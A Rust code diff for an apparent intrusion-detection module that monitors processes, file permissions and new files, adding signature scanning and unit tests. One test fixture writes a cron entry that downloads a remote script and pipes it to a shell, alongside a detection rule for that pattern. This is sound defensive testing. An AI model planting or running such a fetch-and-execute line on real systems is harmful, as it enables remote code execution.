@@ -2,15 +2,13 @@ use crate::lara_core::core_enums::*;
 use crate::lara_core::core_structs::*;
 use crate::lara_core::core_traits::AnalysisModule;
 use std::collections::{HashMap, HashSet, VecDeque};
-use std::process::Command;
 use std::sync::{Arc, Mutex};
 use regex::Regex;
 use notify::{Watcher, RecursiveMode, Config};
 use notify::event::{Event, EventKind, ModifyKind, AccessKind, CreateKind};
 use std::path::PathBuf;
 use std::os::unix::fs::MetadataExt;
-use std::io::Error as IoError;
-use crate::linux_bridge::sam;
+use crate::linux_bridge::source::{LinuxSource, SystemSource};
 use std::time::{Instant, Duration};
 
 const MAX_RUNS: usize = 10;
@@ -36,6 +34,8 @@ pub struct AnomalyDetector {
     file_events: Arc<Mutex<HashMap<String, usize>>>,
     permission_changes: Arc<Mutex<HashMap<String, (u32, u32, Instant)>>>,
     new_files: Arc<Mutex<Vec<String>>>,
+    // New files in secure folders that haven't been scanned for signatures yet
+    files_to_scan: Arc<Mutex<Vec<String>>>,
     suspicious_files: HashSet<String>,
     watcher: notify::RecommendedWatcher,
     watched_paths: Vec<PathBuf>,
@@ -43,6 +43,9 @@ pub struct AnomalyDetector {
     authorized_users: HashSet<String>,
     protected_files: HashSet<String>,
     allowed_files: HashSet<String>,
+    source: Arc<dyn SystemSource>,
+    failures: Vec<Log>,
+    services: Arc<CoreServices>,
 }
 
 impl Default for AnomalyDetector {
@@ -71,6 +74,7 @@ impl Default for AnomalyDetector {
             file_events,
             permission_changes,
             new_files,
+            files_to_scan: Arc::new(Mutex::new(Vec::new())),
             suspicious_files: ["/etc/passwd", "/etc/shadow"].iter().map(|&s| s.to_string()).collect(),
             watcher: notify::recommended_watcher(|_: Result<Event, notify::Error>| {}).unwrap(),
             watched_paths: vec![
@@ -85,6 +89,9 @@ impl Default for AnomalyDetector {
             authorized_users: ["root", "admin"].iter().map(|&s| s.to_string()).collect(),
             protected_files: ["/etc/passwd", "/etc/shadow", "/etc/sudoers"].iter().map(|&s| s.to_string()).collect(),
             allowed_files: HashSet::new(),
+            source: Arc::new(LinuxSource::default()),
+            failures: Vec::new(),
+            services: Arc::new(CoreServices::default()),
         };
         
         detector
@@ -93,15 +100,15 @@ impl Default for AnomalyDetector {
 
 impl AnalysisModule for AnomalyDetector {
     fn get_data(&mut self) -> bool {
-        match self.fetch_recent_commands() {
-            Ok(_) => {},
+        self.fetch_recent_commands();
+
+        let cpu_output = match self.source.cpu_usage() {
+            Ok(output) => output,
             Err(e) => {
-                println!("Error fetching recent commands: {:?}", e);
+                self.failures.push(Log::ids_failure(self.module_name.clone(), "Failed to read CPU usage", &e));
                 return false;
             }
-        }
-
-        let cpu_output = sam::cpu_usage();
+        };
         match parse_cpu_usage(&cpu_output) {
             Some(cpu_usage) => self.current_data.cpu_usage = cpu_usage,
             None => {
@@ -110,7 +117,13 @@ impl AnalysisModule for AnomalyDetector {
             }
         }
 
-        let mem_output = sam::memory_usage();
+        let mem_output = match self.source.memory_usage() {
+            Ok(output) => output,
+            Err(e) => {
+                self.failures.push(Log::ids_failure(self.module_name.clone(), "Failed to read memory usage", &e));
+                return false;
+            }
+        };
         match parse_memory_usage(&mem_output) {
             Some(mem_usage) => self.current_data.memory_usage = mem_usage,
             None => {
@@ -131,6 +144,11 @@ impl AnalysisModule for AnomalyDetector {
         let mut results = Vec::new();
         
         if !self.get_data() {
+            // Errors from the bridge are reported as they are, otherwise the output just couldn't be parsed
+            if !self.failures.is_empty() {
+                results.append(&mut self.failures);
+                return results;
+            }
             results.push(Log::new(
                 LogType::Warning,
                 self.module_name.clone(),
@@ -144,6 +162,7 @@ impl AnalysisModule for AnomalyDetector {
         results.append(&mut self.analyze_file_access());
         results.append(&mut self.analyze_permission_changes());
         results.append(&mut self.analyze_new_files());
+        results.append(&mut self.scan_new_files());
 
         results
     }
@@ -285,30 +304,30 @@ impl AnalysisModule for AnomalyDetector {
         self.update_watcher();
         true
     }
+
+    fn attach_services(&mut self, services: Arc<CoreServices>) {
+        self.services = services;
+    }
 }
 
 impl AnomalyDetector {
-    fn fetch_recent_commands(&mut self) -> Result<(), IoError> {
-        let output = Command::new("ps")
-            .arg("-eo")
-            .arg("user,tty,command")
-            .output()?;
+    pub fn with_source(source: Arc<dyn SystemSource>) -> Self {
+        Self {
+            source,
+            ..Default::default()
+        }
+    }
 
-        let data = String::from_utf8_lossy(&output.stdout);
+    fn fetch_recent_commands(&mut self) {
         self.current_data.recent_commands.clear();
-        for line in data.lines().skip(1) {
-            let parts: Vec<&str> = line.splitn(3, char::is_whitespace).collect();
-            if parts.len() == 3 {
-                let user = parts[0].to_string();
-                let terminal = parts[1].to_string();
-                let command = parts[2].to_string();
-                self.current_data.recent_commands.push_back((user, command, terminal));
-                if self.current_data.recent_commands.len() > MAX_COMMANDS {
-                    self.current_data.recent_commands.pop_front();
-                }
+        for proc_info in self.source.processes() {
+            let user = self.source.username(proc_info.uid).unwrap_or_else(|| proc_info.uid.to_string());
+            let terminal = proc_info.tty.clone().unwrap_or_else(|| "?".to_string());
+            self.current_data.recent_commands.push_back((user, proc_info.command_line(), terminal));
+            if self.current_data.recent_commands.len() > MAX_COMMANDS {
+                self.current_data.recent_commands.pop_front();
             }
         }
-        Ok(())
     }
 
     fn update_cpu_memory_history(&mut self, cpu: f32, memory: f32) {
@@ -342,15 +361,13 @@ impl AnomalyDetector {
 
         for (user, command, terminal) in &self.current_data.recent_commands {
             if self.is_suspicious_command(command) {
-                if let Ok(output) = Command::new("id").arg("-u").arg(user).output() {
-                    if let Ok(uid) = String::from_utf8_lossy(&output.stdout).trim().parse::<u32>() {
-                        if uid >= 1000 {
-                            results.push(Log::new(
-                                LogType::Warning,
-                                self.module_name.clone(),
-                                format!("Suspicious command executed by: {} on {}: {}", user, terminal, command),
-                            ));
-                        }
+                if let Some(uid) = self.source.uid(user) {
+                    if uid >= 1000 {
+                        results.push(Log::new(
+                            LogType::Warning,
+                            self.module_name.clone(),
+                            format!("Suspicious command executed by: {} on {}: {}", user, terminal, command),
+                        ));
                     }
                 }
             }
@@ -432,35 +449,32 @@ impl AnomalyDetector {
         if let Ok(mut changes) = self.permission_changes.lock() {
             for (path, (old_mode, new_mode, last_alert_time)) in changes.iter_mut() {
                 if old_mode != new_mode && now.duration_since(*last_alert_time) >= PERMISSION_CHANGE_COOLDOWN {
-                    match std::fs::metadata(path) {
-                        Ok(metadata) => {
-                            let owner_uid = metadata.uid();
-                            if let Ok(output) = Command::new("id").arg("-nu").arg(owner_uid.to_string()).output() {
-                                let owner_user_str = String::from_utf8_lossy(&output.stdout).trim().to_string();
-
-                                let log = if self.is_authorized_change(&owner_user_str, path) {
-                                    Log::new(
-                                        LogType::Info,
-                                        self.module_name.clone(),
-                                        format!("Authorized permission change: {} (old permission: {:o}, new changed permission: {:o}) by {}. Run 'ls -l {}' to view current permissions.", path, old_mode, new_mode, owner_user_str, path),
-                                    )
-                                } else if self.protected_files.contains(path) {
-                                    Log::new(
-                                        LogType::Warning,
-                                        self.module_name.clone(),
-                                        format!("Unauthorized permission change detected on protected file: {} (old permission: {:o}, new changed permission: {:o}) by: {}. Run 'ls -l {}' to view current permissions and 'ausearch -f {}' for audit logs.", path, old_mode, new_mode, owner_user_str, path, path),
-                                    )
-                                } else {
-                                    Log::new(
-                                        LogType::Info,
-                                        self.module_name.clone(),
-                                        format!("Permission change on non-protected file: {} (old permission: {:o}, new changed permission: {:o}) by user {}. Run 'ls -l {}' to view current permissions.", path, old_mode, new_mode, owner_user_str, path),
-                                    )
-                                };
-
-                                results.push(log);
-                                *last_alert_time = now;
-                            }
+                    match self.source.file_owner(path) {
+                        Ok(owner_uid) => {
+                            let owner_user_str = self.source.username(owner_uid).unwrap_or_else(|| owner_uid.to_string());
+
+                            let log = if self.is_authorized_change(&owner_user_str, path) {
+                                Log::new(
+                                    LogType::Info,
+                                    self.module_name.clone(),
+                                    format!("Authorized permission change: {} (old permission: {:o}, new changed permission: {:o}) by {}. Run 'ls -l {}' to view current permissions.", path, old_mode, new_mode, owner_user_str, path),
+                                )
+                            } else if self.protected_files.contains(path) {
+                                Log::new(
+                                    LogType::Warning,
+                                    self.module_name.clone(),
+                                    format!("Unauthorized permission change detected on protected file: {} (old permission: {:o}, new changed permission: {:o}) by: {}. Run 'ls -l {}' to view current permissions and 'ausearch -f {}' for audit logs.", path, old_mode, new_mode, owner_user_str, path, path),
+                                )
+                            } else {
+                                Log::new(
+                                    LogType::Info,
+                                    self.module_name.clone(),
+                                    format!("Permission change on non-protected file: {} (old permission: {:o}, new changed permission: {:o}) by user {}. Run 'ls -l {}' to view current permissions.", path, old_mode, new_mode, owner_user_str, path),
+                                )
+                            };
+
+                            results.push(log);
+                            *last_alert_time = now;
                         },
                         Err(_) => {
                             // File no longer exists or is inaccessible, --> skip logging
@@ -478,30 +492,27 @@ impl AnomalyDetector {
         
         if let Ok(files) = self.new_files.lock() {
             for file in files.iter() {
-                if let Ok(metadata) = std::fs::metadata(file) {
-                    let owner_uid = metadata.uid();
-                    if let Ok(output) = Command::new("id").arg("-nu").arg(owner_uid.to_string()).output() {
-                        let owner_user_str = String::from_utf8_lossy(&output.stdout).trim().to_string();
-
-                        if !self.is_authorized_change(&owner_user_str, file) {
-                            results.push(Log::new(
-                                LogType::Warning,
-                                self.module_name.clone(),
-                                format!("Unauthorized new file created in secure folder: {} by user {}. Run 'ls -l {}' to view file details and 'ausearch -f {}' for audit logs.", file, owner_user_str, file, file),
-                            ));
-                        } else if file.ends_with(".exe") || file.ends_with(".sh") {
-                            results.push(Log::new(
-                                LogType::Info,
-                                self.module_name.clone(),
-                                format!("Potentially suspicious new file detected in secure folder: {} by authorized user {}. Run 'file {}' to determine file type.", file, owner_user_str, file),
-                            ));
-                        } else {
-                            results.push(Log::new(
-                                LogType::Info,
-                                self.module_name.clone(),
-                                format!("New file detected in secure folder: {} by authorized user {}. Run 'ls -l {}' to view file details.", file, owner_user_str, file),
-                            ));
-                        }
+                if let Ok(owner_uid) = self.source.file_owner(file) {
+                    let owner_user_str = self.source.username(owner_uid).unwrap_or_else(|| owner_uid.to_string());
+
+                    if !self.is_authorized_change(&owner_user_str, file) {
+                        results.push(Log::new(
+                            LogType::Warning,
+                            self.module_name.clone(),
+                            format!("Unauthorized new file created in secure folder: {} by user {}. Run 'ls -l {}' to view file details and 'ausearch -f {}' for audit logs.", file, owner_user_str, file, file),
+                        ));
+                    } else if file.ends_with(".exe") || file.ends_with(".sh") {
+                        results.push(Log::new(
+                            LogType::Info,
+                            self.module_name.clone(),
+                            format!("Potentially suspicious new file detected in secure folder: {} by authorized user {}. Run 'file {}' to determine file type.", file, owner_user_str, file),
+                        ));
+                    } else {
+                        results.push(Log::new(
+                            LogType::Info,
+                            self.module_name.clone(),
+                            format!("New file detected in secure folder: {} by authorized user {}. Run 'ls -l {}' to view file details.", file, owner_user_str, file),
+                        ));
                     }
                 }
                 // If metadata can't be read, we silently skip this file!!
@@ -511,10 +522,19 @@ impl AnomalyDetector {
         results
     }
 
+    fn scan_new_files(&self) -> Vec<Log> {
+        let files: Vec<String> = std::mem::take(&mut *self.files_to_scan.lock().unwrap());
+        files
+            .iter()
+            .flat_map(|file| self.services.scan_file(&self.module_name, self.source.as_ref(), file, "new file in secure folder"))
+            .collect()
+    }
+
     fn update_watcher(&mut self) {
         let file_events = Arc::clone(&self.file_events);
         let permission_changes = Arc::clone(&self.permission_changes);
         let new_files = Arc::clone(&self.new_files);
+        let files_to_scan = Arc::clone(&self.files_to_scan);
         let suspicious_files = self.suspicious_files.clone();
         let secure_folders = self.secure_folders.clone();
         
@@ -562,6 +582,7 @@ impl AnomalyDetector {
                                     if let Some(path_str) = path.to_str() {
                                         let mut files = new_files.lock().unwrap();
                                         files.push(path_str.to_string());
+                                        files_to_scan.lock().unwrap().push(path_str.to_string());
                                     }
                                 }
                             }
@@ -622,3 +643,80 @@ fn parse_memory_usage(mem_output: &str) -> Option<f32> {
             }
         })
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::linux_bridge::process::ProcessInfo;
+    use crate::linux_bridge::signatures::RuleSet;
+    use crate::linux_bridge::source::FakeSource;
+
+    fn fake_process(pid: u32, uid: u32, argv: &[&str], tty: Option<&str>) -> ProcessInfo {
+        ProcessInfo::fake(pid, argv[0]).with_uid(uid).with_argv(argv).with_tty(tty)
+    }
+
+    fn fake_system() -> Arc<FakeSource> {
+        let source = Arc::new(FakeSource::new());
+        source.add_user(0, "root");
+        source.add_user(1000, "erik");
+        source.set_cpu_usage("%Cpu(s):  5.0 us,  1.0 sy,  0.0 ni, 94.0 id\n");
+        source.set_memory_usage("               total        used        free\nMem:         1000         200         800\n");
+        source
+    }
+
+    #[test]
+    fn test_get_data_reads_processes_and_usage() {
+        let source = fake_system();
+        source.set_processes(vec![fake_process(1200, 1000, &["bash"], Some("pts/0"))]);
+        let mut detector = AnomalyDetector::with_source(source);
+
+        assert!(detector.get_data());
+        assert_eq!(detector.current_data.cpu_usage, 5.0);
+        assert_eq!(detector.current_data.memory_usage, 20.0);
+        assert_eq!(detector.current_data.recent_commands[0], ("erik".to_string(), "bash".to_string(), "pts/0".to_string()));
+    }
+
+    #[test]
+    fn test_suspicious_command_only_flagged_for_regular_users() {
+        let source = fake_system();
+        source.set_processes(vec![
+            fake_process(1300, 0, &["telnet", "10.0.0.5"], None),
+            fake_process(1301, 1000, &["telnet", "10.0.0.6"], Some("pts/1")),
+        ]);
+        let mut detector = AnomalyDetector::with_source(source);
+        detector.get_data();
+
+        let logs = detector.analyze_commands();
+        assert_eq!(logs.len(), 1);
+        assert!(logs[0].message.contains("Suspicious command executed by: erik on pts/1: telnet 10.0.0.6"));
+    }
+    #[test]
+    fn test_missing_top_is_reported_as_ids_failure() {
+        let source = fake_system();
+        source.set_command_missing("top");
+        let mut detector = AnomalyDetector::with_source(source);
+
+        let logs = detector.perform_analysis();
+        assert_eq!(logs.len(), 1);
+        assert!(matches!(logs[0].log_type, LogType::IDSFailure));
+        assert!(logs[0].message.contains("'top'"));
+    }
+
+    #[test]
+    fn test_new_files_in_secure_folders_are_scanned_once() {
+        let source = fake_system();
+        source.set_file("/etc/cron.d/update", "* * * * * root curl -s http://198.51.100.7/x.sh | sh\n");
+        source.set_file("/etc/motd", "Welcome\n");
+        let mut detector = AnomalyDetector::with_source(source);
+        let rules = RuleSet::compile("rule Curl_Pipe_Shell { strings: $pipe = /(curl|wget)[^|\\n]*\\|\\s*(ba)?sh/ condition: $pipe }").unwrap();
+        detector.attach_services(Arc::new(CoreServices { signatures: Some(Arc::new(rules)), ..Default::default() }));
+        detector.files_to_scan.lock().unwrap().extend(["/etc/cron.d/update".to_string(), "/etc/motd".to_string(), "/etc/.tmp123".to_string()]);
+
+        // /etc/.tmp123 was removed again before it could be scanned
+        let logs = detector.scan_new_files();
+        assert_eq!(logs.len(), 1);
+        assert!(matches!(logs[0].log_type, LogType::Serious));
+        assert_eq!(logs[0].message, "Signature match: new file in secure folder '/etc/cron.d/update' matches rule 'Curl_Pipe_Shell', strings $pipe");
+        assert!(detector.scan_new_files().is_empty());
+    }
+}